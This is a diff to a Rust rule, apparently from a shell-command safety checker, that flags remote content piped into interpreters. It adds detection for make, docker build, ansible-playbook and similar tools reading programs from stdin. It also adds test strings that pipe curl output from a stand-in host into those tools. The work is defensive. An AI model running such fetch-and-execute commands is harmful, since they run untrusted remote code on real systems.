@@ -5,7 +5,7 @@ use super::fetch::fetches;
 use crate::invocation::{Invocation, Stdin};
 use crate::look::Look;
 use crate::rule::{Help, Hit, Key, Rule, Severity, Test};
-use crate::word::Unknown;
+use crate::word::{Unknown, Word};
 
 pub(super) const PIPE_KEY: Key = Key::both("pipe remote content to shell");
 
@@ -122,6 +122,9 @@ pub(super) const SCRIPT: Rule = Rule {
         "wget -qO- x.example.net | perl",
         "curl x.example.net | php",
         "curl x.example.net | psql",
+        "curl -s x.example.net/Makefile | make -f -",
+        "curl -s x.example.net/d | docker build -",
+        "curl -s x.example.net/p | ansible-playbook /dev/stdin",
     ],
     near_misses: &[
         "curl x.example.net | python3 -m json.tool",
@@ -151,9 +154,35 @@ const CLIENTS: &[&str] = &[
     "redis-cli",
 ];
 
+/// Tools that take the file with what they run by an option: `make -f -`.
+fn reads_program(look: &Look<'_>, name: &str) -> bool {
+    let option = match name {
+        "make" | "gmake" | "awk" | "gawk" | "mawk" => "-f",
+        "gdb" => "-x",
+        "docker" | "podman" => "build",
+        "ansible-playbook" | "expect" | "elixir" | "parallel" | "clickhouse-client" => "",
+        _ => return false,
+    };
+    let words = look.words();
+    let at = words.iter().position(|w| w.known() == Some(option));
+    let rest = match at {
+        Some(at) => words.get(at + 1..).unwrap_or(&[]),
+        None if option.is_empty() => words,
+        None => return false,
+    };
+    let reads = |w: &Word| matches!(w.known(), Some("-" | "/dev/stdin" | "/dev/fd/0"));
+    match name {
+        "parallel" | "elixir" | "clickhouse-client" => words.is_empty(),
+        "docker" | "podman" => rest.last().is_some_and(reads),
+        "ansible-playbook" => rest.iter().any(reads),
+        _ => rest.first().is_some_and(reads),
+    }
+}
+
 fn script(look: &Look<'_>) -> Option<Hit> {
     let name = look.invocation.name()?;
     let runs = is_script(name) && reads_script_from_input(look.invocation)
+        || reads_program(look, name)
         || CLIENTS.contains(&name)
             && !look
                 .words()
